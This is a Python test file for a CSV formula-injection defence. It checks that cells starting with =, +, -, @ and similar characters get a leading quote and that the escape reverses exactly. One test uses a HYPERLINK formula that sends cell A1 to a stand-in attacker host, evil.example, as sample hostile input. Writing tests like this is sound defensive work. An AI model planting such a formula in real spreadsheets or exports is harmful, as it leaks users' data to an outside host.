"""CSV cells a spreadsheet would run as a formula get a leading quote, and the rule undoes exactly."""

from __future__ import annotations

import pytest

from wrapup_portal.audit.csv_cells import CELL_ESCAPING, FORMULA_STARTS, QUOTE, csv_cell_escape, csv_cell_unescape


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(start: str) -> None:
    value = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
    assert csv_cell_escape(value) == QUOTE + value
    assert csv_cell_unescape(csv_cell_escape(value)) == value


@pytest.mark.parametrize("value", ["", "alice", "2026-11-25T13:28:00.000000Z", '{"n":-1}', "a=b", " =x", "'", "'=x", "''"])
def test_every_value_comes_back_exactly(value: str) -> None:
    # A value that already starts with ' is escaped too, or its undo would eat a real quote.
    assert csv_cell_unescape(str(csv_cell_escape(value))) == value


def test_numbers_and_other_text_are_written_as_they_are() -> None:
    assert [csv_cell_escape(v) for v in (-5, 3, None, "alice", "a=b")] == [-5, 3, None, "alice", "a=b"]
    assert csv_cell_escape("-5") == "'-5"  # text that looks negative is text: shown as -5, not computed


def test_the_manifest_rule_names_every_escaped_start() -> None:
    assert CELL_ESCAPING["prefix"] == QUOTE
    assert CELL_ESCAPING["when_text_starts_with"] == ["=", "+", "-", "@", "\t", "\r", "'"]
